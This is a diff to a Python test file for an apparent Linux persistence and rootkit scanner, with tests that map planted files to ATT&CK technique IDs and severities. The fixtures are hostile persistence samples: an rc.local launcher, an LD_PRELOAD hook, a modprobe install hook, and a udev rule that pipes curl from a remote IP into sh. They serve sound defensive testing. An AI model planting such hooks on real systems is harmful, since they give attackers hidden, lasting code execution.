@@ -94,9 +94,11 @@ def test_ld_preload_that_is_empty_or_a_link(plain: TreeMaker) -> None:
 def test_startup(plain: TreeMaker) -> None:
     plain.file("/etc/rc.d/rc.local", "#!/bin/bash\n/dev/shm/.x/run &\n")
     plain.file("/etc/profile.d/lang.sh", '[ -z "$LANG" ] && export LANG=C.UTF-8\n')
+    plain.file("/etc/init.d/x11-common", '#!/bin/sh\nfn="$(mktemp /tmp/test.XXXX)"\n[ -d /tmp/.X11-unix ] || mkdir x\nDIR=/tmp/x\n')
+    plain.file("/etc/skel/.bashrc", "alias ls='ls --color'\n")
     plain.file("/root/.bashrc", "export LD_PRELOAD=/usr/lib/x.so\n")
     plain.file("/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/bin/sh -c \'curl http://198.51.100.23/x | sh\'"\n')
-    assert {(one.path, one.attack[0]) for one in plain.findings(Startup())} == {
+    assert {(one.path, one.attack[0]) for one in plain.findings(Startup()) if one.severity is not Severity.LOW} == {
         ("/etc/rc.d/rc.local", "T1037.004"), ("/root/.bashrc", "T1546.004"), ("/etc/udev/rules.d/99-x.rules", "T1546.017")}
 
 
@@ -105,7 +107,8 @@ def test_kernel_modules(plain: TreeMaker) -> None:
     plain.file(f"{kernel}/modules.dep", "kernel/fs/xfs.ko:\nkernel/fs/gone.ko: kernel/fs/xfs.ko\n")
     plain.file(f"{kernel}/kernel/fs/xfs.ko", b"x")
     plain.file(f"{kernel}/kernel/fs/rootkit.ko", b"x")
-    plain.file("/opt/lkm.ko", b"x")
+    plain.file("/opt/lkm.ko", b"\x7fELF")
+    plain.file("/usr/share/vim/tutor.ko", b"text in Korean")
     plain.file("/etc/modprobe.d/x.conf", "blacklist floppy\ninstall usb-storage /tmp/run\n")
     assert {(one.path, one.severity) for one in plain.findings(KernelModules())} == {
         (f"{kernel}/kernel/fs/rootkit.ko", Severity.MEDIUM), (f"{kernel}/modules.dep", Severity.LOW), ("/opt/lkm.ko", Severity.HIGH), ("/etc/modprobe.d/x.conf", Severity.HIGH)}
